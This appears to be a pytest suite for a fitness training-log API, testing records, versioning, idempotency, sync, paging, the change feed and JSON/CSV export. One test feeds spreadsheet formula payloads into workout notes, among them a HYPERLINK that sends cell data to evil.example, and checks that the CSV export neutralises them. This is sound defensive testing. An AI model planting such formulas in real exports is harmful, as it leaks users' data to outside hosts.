"""The training log as an app sees it: records, versions, idempotency, sync and export."""

from __future__ import annotations

import csv
import io
import json
import time
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.core.config import Settings
from app.core.db import build_engine, table_of
from app.main import create_app
from app.training import service
from app.training.models import Workout, WorkoutSet
from app.training.service import csv_cell
from tests.conftest import Athlete, register

BASE = "/v1/athletes/me"


def workout(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "started_at": "2026-11-20T18:30:00+01:00",
        "duration_minutes": 45,
        "session_rpe": 6,
        "pain_during": 2,
        "pain_site": "left-achilles",
        "sets": [
            {
                "position": 1,
                "exercise": "eccentric-heel-raise",
                "side": "left",
                "reps": 12,
                "load_kg": 10,
                "tempo": "3-0-1",
            },
            {"position": 2, "exercise": "plank", "hold_seconds": 45, "rpe": 7.5},
        ],
    }
    return {**body, **changes}


RUN = {"started_at": "2026-11-01T07:00:00Z", "distance_km": 8.0, "duration_s": 2700}
CHECKIN = {"date": "2026-11-01", "sites": [{"site": "left-achilles", "pain": 2, "morning_stiffness": 1}]}


@pytest.fixture
def athlete(client: TestClient) -> Athlete:
    return register(client)


def test_create_read_and_derived_fields(client: TestClient, athlete: Athlete) -> None:
    created = client.post(f"{BASE}/workouts", json=workout(), headers=athlete.headers)
    assert created.status_code == 201
    body = created.json()
    assert created.headers["etag"] == '"1"'
    assert created.headers["location"] == f"/v1/athletes/{athlete.id}/workouts/{body['id']}"
    assert body["started_at"] == "2026-11-20T18:30:00+01:00"  # the offset it was sent with
    assert body["session_load"] == 270.0
    assert [s["exercise"]["slug"] for s in body["sets"]] == ["eccentric-heel-raise", "plank"]
    assert body["sets"][0]["exercise"]["name"]
    read = client.get(f"{BASE}/workouts/{body['id']}", headers=athlete.headers)
    assert read.json() == body and read.headers["etag"] == '"1"'


def test_the_ids_the_service_makes_are_version_7_and_sort_as_they_were_made(
    client: TestClient, athlete: Athlete, db_session: Session
) -> None:
    """Records, and a workout's sets, get UUID version 7 ids (RFC 9562): their first 48 bits
    are the millisecond they were made in, so ids made in different milliseconds sort in
    the order they were made (and land together at the end of their indexes)."""
    made: list[tuple[uuid.UUID, int, int]] = []
    for path, body in (
        ("workouts", workout()),
        ("runs", RUN),
        ("workouts", workout(started_at="2026-11-21T18:30:00+01:00")),
        ("checkins", CHECKIN),
    ):
        before = time.time_ns() // 1_000_000
        answer = client.post(f"{BASE}/{path}", json=body, headers=athlete.headers)
        assert answer.status_code == 201, answer.text
        made.append((uuid.UUID(answer.json()["id"]), before, time.time_ns() // 1_000_000))
        while time.time_ns() // 1_000_000 <= made[-1][2]:  # the next one in a later millisecond
            time.sleep(0.0005)
    assert all(made_id.version == 7 and made_id.variant == uuid.RFC_4122 for made_id, _, _ in made)
    assert all(before <= made_id.int >> 80 <= after for made_id, before, after in made)
    assert [made_id for made_id, _, _ in made] == sorted(made_id for made_id, _, _ in made)
    sets = table_of(WorkoutSet)
    set_ids = (
        db_session.connection().execute(sa.select(sets.c.id).where(sets.c.workout_id == made[0][0])).scalars().all()
    )
    assert len(set_ids) == 2 and len(set(set_ids)) == 2
    assert all(set_id.version == 7 and made[0][1] <= set_id.int >> 80 <= made[0][2] for set_id in set_ids)


def test_a_new_workout_is_written_with_every_column_of_its_table() -> None:
    """The INSERT of a new workout writes the values of service.WrittenWorkout, column by name."""
    assert service.WrittenWorkout._fields == service.WORKOUT_COLUMNS
    assert set(service.WORKOUT_COLUMNS) == set(table_of(Workout).c.keys())


def test_the_answer_to_a_write_is_what_a_read_returns_after_it(client: TestClient, athlete: Athlete) -> None:
    """A write answers with the sets it stored without reading them back: positions out of
    order, defaults left out, whole numbers where decimals are stored, a set repeated."""
    sets = [
        {"position": 3, "exercise": "plank", "hold_seconds": 30, "rpe": 8, "rir": 2, "completed": False},
        {"position": 1, "exercise": "eccentric-heel-raise", "reps": 15, "load_kg": 12, "side": "right"},
        {"position": 2, "exercise": "eccentric-heel-raise", "reps": 15},
    ]
    created = client.post(f"{BASE}/workouts", json=workout(sets=sets), headers=athlete.headers)
    assert created.status_code == 201, created.text
    url = f"{BASE}/workouts/{created.json()['id']}"
    assert [s["position"] for s in created.json()["sets"]] == [1, 2, 3]
    assert created.json() == client.get(url, headers=athlete.headers).json()
    replaced = client.put(
        url, json=workout(sets=sets[1:]), headers={**athlete.headers, "If-Match": created.headers["etag"]}
    )
    assert replaced.status_code == 200, replaced.text
    assert len(replaced.json()["sets"]) == 2
    assert replaced.json() == client.get(url, headers=athlete.headers).json()
    patched = client.patch(
        url, json={"notes": "felt fine"}, headers={**athlete.headers, "If-Match": replaced.headers["etag"]}
    )
    assert patched.status_code == 200, patched.text
    assert patched.json()["sets"] == replaced.json()["sets"]
    assert patched.json() == client.get(url, headers=athlete.headers).json()
    emptied = client.patch(url, json={"sets": []}, headers={**athlete.headers, "If-Match": patched.headers["etag"]})
    assert emptied.status_code == 200, emptied.text
    assert emptied.json()["sets"] == [] and emptied.json() == client.get(url, headers=athlete.headers).json()


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"sets": [{"position": 1, "exercise": "moon-walk", "reps": 5}]}, "sets.0.exercise"),
        ({"sets": [{"position": 1, "exercise": "plank", "reps": -1}]}, "sets.0.reps"),
        ({"session_rpe": 11}, "session_rpe"),
        ({"started_at": (datetime.now(UTC) + timedelta(days=30)).isoformat()}, "started_at"),
        ({"started_at": "2026-11-20T18:30:00"}, "started_at"),
        (
            {
                "sets": [
                    {"position": 1, "exercise": "plank", "reps": 1},
                    {"position": 1, "exercise": "squat", "reps": 1},
                ]
            },
            "sets",
        ),
        ({"sets": [{"position": i + 1, "exercise": "plank", "reps": 1} for i in range(61)]}, "sets"),
        ({"sets": [{"position": 1, "exercise": "plank"}]}, "sets.0"),
        ({"duration_minutes": 0}, "duration_minutes"),
    ],
)
def test_bad_input_is_a_422_naming_the_field_and_nothing_is_written(
    client: TestClient, athlete: Athlete, changes: dict[str, Any], field: str
) -> None:
    response = client.post(f"{BASE}/workouts", json=workout(**changes), headers=athlete.headers)
    assert response.status_code == 422, response.text
    assert any(e["name"] == field or e["name"].startswith(field) for e in response.json()["errors"]), response.json()
    assert client.get(f"{BASE}/workouts", headers=athlete.headers).json()["items"] == []
    assert client.get(f"{BASE}/changes", headers=athlete.headers).json()["changes"] == []


def test_patch_needs_a_current_if_match(client: TestClient, athlete: Athlete) -> None:
    wid = client.post(f"{BASE}/workouts", json=workout(), headers=athlete.headers).json()["id"]
    url = f"{BASE}/workouts/{wid}"
    assert client.patch(url, json={"notes": "x"}, headers=athlete.headers).status_code == 428
    changed = client.patch(
        url, json={"notes": "felt strong", "sets": []}, headers={**athlete.headers, "If-Match": '"1"'}
    )
    assert changed.status_code == 200 and changed.headers["etag"] == '"2"'
    assert changed.json()["sets"] == [] and changed.json()["version"] == 2
    stale = client.patch(url, json={"notes": "late"}, headers={**athlete.headers, "If-Match": '"1"'})
    assert stale.status_code == 412
    assert client.get(url, headers=athlete.headers).json()["notes"] == "felt strong"
    null = client.patch(url, json={"duration_minutes": None}, headers={**athlete.headers, "If-Match": '"2"'})
    assert null.status_code == 422
    assert client.delete(url, headers={**athlete.headers, "If-Match": '"1"'}).status_code == 412
    assert client.delete(url, headers=athlete.headers).status_code == 204
    assert client.get(url, headers=athlete.headers).status_code == 404


def test_idempotency_key_replays_refuses_other_bodies_and_is_per_user(
    client: TestClient, athlete: Athlete, backend: str
) -> None:
    key = {"Idempotency-Key": str(uuid.uuid4())}
    # Numbers a serialiser may write in more than one way: the replay writes them as the first answer did.
    body = workout(sets=[{"position": 1, "exercise": "eccentric-heel-raise", "reps": 12, "load_kg": 0.00001}])
    first = client.post(f"{BASE}/workouts", json=body, headers={**athlete.headers, **key})
    again = client.post(f"{BASE}/workouts", json=body, headers={**athlete.headers, **key})
    assert first.status_code == again.status_code == 201
    assert again.json() == first.json() and again.headers["idempotent-replayed"] == "true"
    assert again.headers["location"] == first.headers["location"]
    if backend == "sqlite":  # PostgreSQL's JSONB keeps the keys in an order of its own
        assert again.content == first.content
    other = client.post(f"{BASE}/workouts", json=workout(notes="x"), headers={**athlete.headers, **key})
    assert other.status_code == 422 and other.json()["type"] == "/problems/idempotency-key-reused"
    assert len(client.get(f"{BASE}/workouts", headers=athlete.headers).json()["items"]) == 1
    someone = register(client)
    theirs = client.post(f"{BASE}/workouts", json=workout(), headers={**someone.headers, **key})
    assert theirs.status_code == 201 and theirs.json()["id"] != first.json()["id"]


def test_a_failed_request_frees_its_key(client: TestClient, athlete: Athlete) -> None:
    key = {"Idempotency-Key": "retry-after-fix"}
    bad = client.post(
        f"{BASE}/runs",
        json={"started_at": "2099-01-01T00:00:00Z", "distance_km": 5, "duration_s": 1500},
        headers={**athlete.headers, **key},
    )
    assert bad.status_code == 422
    good = client.post(
        f"{BASE}/runs",
        json={"started_at": "2026-11-01T07:00:00Z", "distance_km": 5, "duration_s": 1500},
        headers={**athlete.headers, **key},
    )
    assert good.status_code == 201


def test_put_with_a_client_uuid_syncs_safely(client: TestClient, athlete: Athlete) -> None:
    url = f"{BASE}/workouts/{uuid.uuid4()}"
    assert client.put(url, json=workout(), headers=athlete.headers).status_code == 201
    same = client.put(url, json=workout(), headers=athlete.headers)
    assert same.status_code == 200 and same.json()["version"] == 1
    # The same instant at another offset is a change (the offset is answered back): If-Match needed.
    assert client.put(url, json=workout(started_at="2026-11-20T17:30:00Z"), headers=athlete.headers).status_code == 428
    assert client.put(url, json=workout(notes="edited offline"), headers=athlete.headers).status_code == 428
    replaced = client.put(url, json=workout(notes="edited offline"), headers={**athlete.headers, "If-Match": '"1"'})
    assert replaced.status_code == 200 and replaced.json()["version"] == 2
    someone = register(client)
    assert client.put(url.replace("me", someone.id), json=workout(), headers=someone.headers).status_code == 404


@pytest.mark.parametrize(("plural", "body"), [("workouts", workout()), ("runs", RUN), ("checkins", CHECKIN)])
def test_a_put_of_someone_elses_id_is_answered_as_an_unknown_id(
    client: TestClient, athlete: Athlete, plural: str, body: dict[str, Any]
) -> None:
    theirs = str(uuid.uuid4())
    assert client.put(f"{BASE}/{plural}/{theirs}", json=body, headers=athlete.headers).status_code == 201
    someone = register(client)
    put = client.put(f"{BASE}/{plural}/{theirs}", json={**body, "notes": "mine"}, headers=someone.headers)
    got = client.get(f"{BASE}/{plural}/{theirs}", headers=someone.headers)
    unknown = str(uuid.uuid4())
    got_unknown = client.get(f"{BASE}/{plural}/{unknown}", headers=someone.headers)
    assert put.status_code == got.status_code == got_unknown.status_code == 404
    assert put.json() == got.json()  # same type, title, detail and instance
    assert got_unknown.json()["detail"] == got.json()["detail"].replace(theirs, unknown)
    assert "taken" not in put.text and "exists" not in put.text
    # A body the service refuses is refused alike, whoever holds the id.
    if plural == "workouts":
        bad = workout(sets=[{"position": 1, "exercise": "moon-walk", "reps": 5}])
        foreign = client.put(f"{BASE}/{plural}/{theirs}", json=bad, headers=someone.headers)
        fresh = client.put(f"{BASE}/{plural}/{unknown}", json=bad, headers=someone.headers)
        assert foreign.status_code == fresh.status_code == 422
        assert foreign.json()["errors"] == fresh.json()["errors"]
    mine = client.get(f"{BASE}/{plural}/{theirs}", headers=athlete.headers).json()
    assert mine["version"] == 1 and mine["notes"] is None
    assert client.get(f"{BASE}/changes", headers=someone.headers).json()["changes"] == []


def test_keyset_pages_newest_first_with_filters(client: TestClient, athlete: Athlete) -> None:
    start = datetime(2026, 10, 1, 8, tzinfo=UTC)
    for day in range(7):
        sets = [{"position": 1, "exercise": "squat" if day % 2 else "plank", "reps": 5}]
        body = workout(started_at=(start + timedelta(days=day)).isoformat(), sets=sets)
        assert client.post(f"{BASE}/workouts", json=body, headers=athlete.headers).status_code == 201
    seen, url = [], f"{BASE}/workouts?limit=3"
    while url:
        response = client.get(url, headers=athlete.headers)
        page = response.json()
        seen += [w["started_at"] for w in page["items"]]
        url = response.links.get("next", {}).get("url")
        assert (url is None) == (page["next_cursor"] is None)
    assert seen == sorted(seen, reverse=True) and len(seen) == 7
    squats = client.get(f"{BASE}/workouts?exercise=squat", headers=athlete.headers).json()["items"]
    assert len(squats) == 3
    window = client.get(f"{BASE}/workouts?from=2026-10-02&to=2026-10-04", headers=athlete.headers).json()["items"]
    assert [w["started_at"][:10] for w in window] == ["2026-10-04", "2026-10-03", "2026-10-02"]
    assert client.get(f"{BASE}/workouts?cursor=garbage", headers=athlete.headers).status_code == 422
    assert client.get(f"{BASE}/workouts?from=2026-10-05&to=2026-10-01", headers=athlete.headers).status_code == 422


def test_runs_and_checkins(client: TestClient, athlete: Athlete) -> None:
    run = client.post(
        f"{BASE}/runs",
        json={
            "started_at": "2026-11-19T07:00:00Z",
            "distance_km": 10,
            "duration_s": 3000,
            "type": "long",
            "session_rpe": 5,
            "surface": "trail",
        },
        headers=athlete.headers,
    )
    assert run.status_code == 201
    assert (
        run.json()["pace_s_per_km"] == 300.0
        and run.json()["session_load"] == 250.0
        and run.json()["source"] == "manual"
    )
    assert (
        client.post(
            f"{BASE}/runs",
            json={"started_at": "2026-11-19T07:00:00Z", "distance_km": 10, "duration_s": 3000, "type": "jog"},
            headers=athlete.headers,
        ).status_code
        == 422
    )
    checkin = client.post(
        f"{BASE}/checkins",
        json={
            "date": "2026-11-20",
            "visa_a": 82,
            "sites": [{"site": "left-achilles", "pain": 2, "morning_stiffness": 3}],
        },
        headers=athlete.headers,
    )
    assert checkin.status_code == 201 and checkin.json()["sites"][0]["site"] == "left-achilles"
    twice = {"date": "2026-11-20", "sites": [{"site": "a-b", "pain": 1, "morning_stiffness": 1}] * 2}
    assert client.post(f"{BASE}/checkins", json=twice, headers=athlete.headers).status_code == 422
    assert (
        client.post(
            f"{BASE}/checkins", json={"date": "2026-11-20", "sites": [], "visa_a": 101}, headers=athlete.headers
        ).status_code
        == 422
    )


@pytest.mark.parametrize("field", ["pain", "morning_stiffness"])
def test_a_pain_score_is_a_number_not_true_or_false(client: TestClient, athlete: Athlete, field: str) -> None:
    site = {"site": "left-achilles", "pain": 2, "morning_stiffness": 3, field: False}
    sent = client.post(f"{BASE}/checkins", json={"date": "2026-11-20", "sites": [site]}, headers=athlete.headers)
    assert sent.status_code == 422, sent.text
    assert client.get(f"{BASE}/checkins", headers=athlete.headers).json()["items"] == []


def test_an_rpe_is_a_number_not_true_or_false(client: TestClient, athlete: Athlete) -> None:
    run = {"started_at": "2026-11-19T07:00:00Z", "distance_km": 5, "duration_s": 1500, "type": "easy"}
    sent = client.post(f"{BASE}/runs", json={**run, "session_rpe": True}, headers=athlete.headers)
    assert sent.status_code == 422, sent.text
    assert client.post(f"{BASE}/runs", json={**run, "session_rpe": 6}, headers=athlete.headers).status_code == 201


def test_a_run_is_at_least_ten_metres(client: TestClient, athlete: Athlete) -> None:
    """A vanishing distance would make an infinite pace; it is refused, not stored."""
    run = {"started_at": "2026-11-19T07:00:00Z", "distance_km": 5e-324, "duration_s": 1, "type": "easy"}
    sent = client.post(f"{BASE}/runs", json=run, headers=athlete.headers)
    assert sent.status_code == 422 and "distance_km" in sent.text
    assert client.get(f"{BASE}/runs", headers=athlete.headers).json()["items"] == []
    assert client.post(f"{BASE}/runs", json={**run, "distance_km": 0.009}, headers=athlete.headers).status_code == 422
    assert client.post(f"{BASE}/runs", json={**run, "distance_km": 0.01}, headers=athlete.headers).status_code == 201


def test_change_feed_in_order_with_tombstones(client: TestClient, athlete: Athlete) -> None:
    a = client.post(f"{BASE}/workouts", json=workout(), headers=athlete.headers).json()
    b = client.post(f"{BASE}/workouts", json=workout(notes="b"), headers=athlete.headers).json()
    first = client.get(f"{BASE}/changes?since=0&limit=1", headers=athlete.headers).json()
    assert first["has_more"] and first["changes"][0]["id"] == a["id"] and first["changes"][0]["record"] == a
    client.patch(f"{BASE}/workouts/{a['id']}", json={"notes": "a2"}, headers={**athlete.headers, "If-Match": '"1"'})
    client.delete(f"{BASE}/workouts/{b['id']}", headers=athlete.headers)
    rest = client.get(f"{BASE}/changes?since={first['next_since']}", headers=athlete.headers).json()
    ops = [(c["id"], c["op"], c["version"]) for c in rest["changes"]]
    assert ops == [(a["id"], "upsert", 2), (b["id"], "delete", 2)]
    assert rest["changes"][0]["record"]["notes"] == "a2" and rest["changes"][1]["record"] is None
    seqs = [c["seq"] for c in rest["changes"]]
    assert seqs == sorted(seqs) and seqs[0] > first["next_since"] and not rest["has_more"]
    done = client.get(f"{BASE}/changes?since={rest['next_since']}", headers=athlete.headers).json()
    assert done["changes"] == [] and done["next_since"] == rest["next_since"]


def test_export_json_and_csv(client: TestClient, athlete: Athlete) -> None:
    client.post(f"{BASE}/workouts", json=workout(), headers=athlete.headers)
    client.post(f"{BASE}/workouts", json=workout(sets=[], notes="no sets"), headers=athlete.headers)
    client.post(
        f"{BASE}/runs",
        json={"started_at": "2026-11-19T07:00:00Z", "distance_km": 5, "duration_s": 1500},
        headers=athlete.headers,
    )
    data = client.get(f"{BASE}/export", headers=athlete.headers)
    assert data.status_code == 200 and "attachment" in data.headers["content-disposition"]
    exported = json.loads(data.text)
    assert len(exported["workouts"]) == 2 and len(exported["runs"]) == 1 and exported["checkins"] == []
    table = client.get(f"{BASE}/export?format=csv", headers=athlete.headers)
    assert table.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(table.text)))
    assert len(rows) == 3  # two sets, and the workout without sets keeps a row
    assert {r["exercise"] for r in rows} == {"eccentric-heel-raise", "plank", ""}
    # The CSV on a path of its own, declared as text/csv only (the query parameter stays for old clients).
    alone = client.get(f"{BASE}/export.csv", headers=athlete.headers)
    assert alone.headers["content-type"].startswith("text/csv") and alone.text == table.text
    assert client.get(f"{BASE}/export?format=xml", headers=athlete.headers).status_code == 422


def test_an_export_streams_holding_no_connection_of_its_request(
    settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export reads in batches of its own; the credential check before it must not
    leave its read transaction (and a pooled connection) open for the whole download."""
    engine = build_engine(settings)
    held: list[int] = []
    real = service.export_json

    def spying(sessions: Any, athlete_id: uuid.UUID) -> Any:
        # As the stream starts: checked out of the pool, beside SQLite's connections kept
        # idle for the next requests' reads.
        kept = app.state.sessions.reads.free
        assert not any(connection.in_transaction() for connection in kept)
        held.append(engine.pool.checkedout() - len(kept))  # type: ignore[attr-defined]
        yield from real(sessions, athlete_id)

    monkeypatch.setattr(service, "export_json", spying)
    app = create_app(settings, engine)
    try:
        with TestClient(app) as client:
            athlete = register(client)
            assert client.post(f"{BASE}/workouts", json=workout(), headers=athlete.headers).status_code == 201
            exported = client.get(f"{BASE}/export", headers=athlete.headers)
            assert exported.status_code == 200 and len(exported.json()["workouts"]) == 1
        assert held == [0]
    finally:
        engine.dispose()


@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)", "-2+3", "+1", "- 1"],
)
def test_csv_export_neutralises_formulas_but_keeps_numbers(client: TestClient, athlete: Athlete, note: str) -> None:
    # A coach with write access could plant a formula that runs when the athlete opens the export.
    sets = [{"position": 1, "exercise": "pull-up", "reps": 5, "load_kg": -12.5, "tempo": "3-0-1"}]
    created = client.post(f"{BASE}/workouts", json=workout(notes=note, sets=sets), headers=athlete.headers)
    assert created.status_code == 201, created.text
    table = client.get(f"{BASE}/export?format=csv", headers=athlete.headers)
    [row] = list(csv.DictReader(io.StringIO(table.text, newline="")))
    assert row["notes"] == "'" + note  # shown as the text it is, not run
    assert row["load_kg"] == "-12.5" and row["reps"] == "5"  # numbers stay numbers
    assert row["tempo"] == "3-0-1" and row["pain_site"] == "left-achilles" and row["exercise"] == "pull-up"
    assert client.get(f"{BASE}/export", headers=athlete.headers).json()["workouts"][0]["notes"] == note


def test_csv_cells_starting_with_tab_or_carriage_return_are_neutralised_too() -> None:
    # Notes are stripped on input, so these reach the export only from text columns added later.
    assert [csv_cell(v) for v in ("\t=1", "\r=1", "plain", -3, -2.5, True, None)] == [
        "'\t=1",
        "'\r=1",
        "plain",
        -3,
        -2.5,
        True,
        "",
    ]


def test_erasing_the_account_erases_the_log(client: TestClient, athlete: Athlete) -> None:
    client.post(f"{BASE}/workouts", json=workout(), headers={**athlete.headers, "Idempotency-Key": "k"})
    assert client.delete("/v1/me", headers=athlete.headers).status_code == 204
    again = register(client)
    assert client.get(f"/v1/athletes/{athlete.id}/workouts", headers=again.headers).status_code == 404


@pytest.mark.parametrize(
    ("plural", "body"),
    [
        ("workouts", workout(started_at="2026-11-20T08:15:00-05:30")),
        ("runs", {**RUN, "started_at": "2026-11-01T07:00:00+09:00"}),
    ],
)
def test_a_start_comes_back_with_the_offset_it_was_sent_with(
    client: TestClient, athlete: Athlete, plural: str, body: dict[str, Any]
) -> None:
    created = client.post(f"{BASE}/{plural}", json=body, headers=athlete.headers).json()
    sent = datetime.fromisoformat(body["started_at"])
    for answer in (
        created,
        client.get(f"{BASE}/{plural}/{created['id']}", headers=athlete.headers).json(),
        client.get(f"{BASE}/{plural}", headers=athlete.headers).json()["items"][0],
    ):
        assert answer["started_at"] == body["started_at"]
        assert datetime.fromisoformat(answer["started_at"]) == sent
    url = f"{BASE}/{plural}/{created['id']}"
    moved = client.patch(
        url, json={"started_at": "2026-11-01T06:00:00Z"}, headers={**athlete.headers, "If-Match": '"1"'}
    )
    assert moved.status_code == 200 and moved.json()["started_at"] == "2026-11-01T06:00:00Z"
    noted = client.patch(url, json={"notes": "kept"}, headers={**athlete.headers, "If-Match": '"2"'})
    assert noted.json()["started_at"] == "2026-11-01T06:00:00Z"
    changes = client.get(f"{BASE}/changes", headers=athlete.headers).json()["changes"]
    assert changes[-1]["record"]["started_at"] == "2026-11-01T06:00:00Z"


def without(body: dict[str, Any], name: str) -> dict[str, Any]:
    return {k: v for k, v in body.items() if k != name}


def test_durations_in_seconds_and_their_old_names(client: TestClient, athlete: Athlete) -> None:
    """`duration_seconds` is stored as sent (a GET body PUT back changes nothing); the old
    names are still taken and answered; both sent and disagreeing is a 422 naming the old one."""
    made = client.post(
        f"{BASE}/workouts",
        json={**without(workout(), "duration_minutes"), "duration_seconds": 2710},
        headers=athlete.headers,
    )
    assert made.status_code == 201, made.text
    body = made.json()
    assert (body["duration_seconds"], body["duration_minutes"]) == (2710, 45)
    again = client.put(f"{BASE}/workouts/{body['id']}", json=body, headers=athlete.headers)
    assert again.status_code == 200 and again.json()["version"] == 1
    old = client.post(f"{BASE}/workouts", json=workout(duration_minutes=30), headers=athlete.headers).json()
    assert (old["duration_seconds"], old["duration_minutes"]) == (1800, 30)
    both = client.post(
        f"{BASE}/workouts", json={**workout(duration_minutes=30), "duration_seconds": 2700}, headers=athlete.headers
    )
    assert both.status_code == 422 and [e["name"] for e in both.json()["errors"]] == ["duration_minutes"]
    run = client.post(
        f"{BASE}/runs", json={**without(RUN, "duration_s"), "duration_seconds": 2700}, headers=athlete.headers
    )
    assert run.status_code == 201, run.text
    assert {k: run.json()[k] for k in ("duration_seconds", "duration_s", "pace_seconds_per_km", "pace_s_per_km")} == {
        "duration_seconds": 2700,
        "duration_s": 2700,
        "pace_seconds_per_km": 337.5,
        "pace_s_per_km": 337.5,
    }
    clash = client.post(f"{BASE}/runs", json={**RUN, "duration_seconds": 2701}, headers=athlete.headers)
    assert clash.status_code == 422 and [e["name"] for e in clash.json()["errors"]] == ["duration_s"]
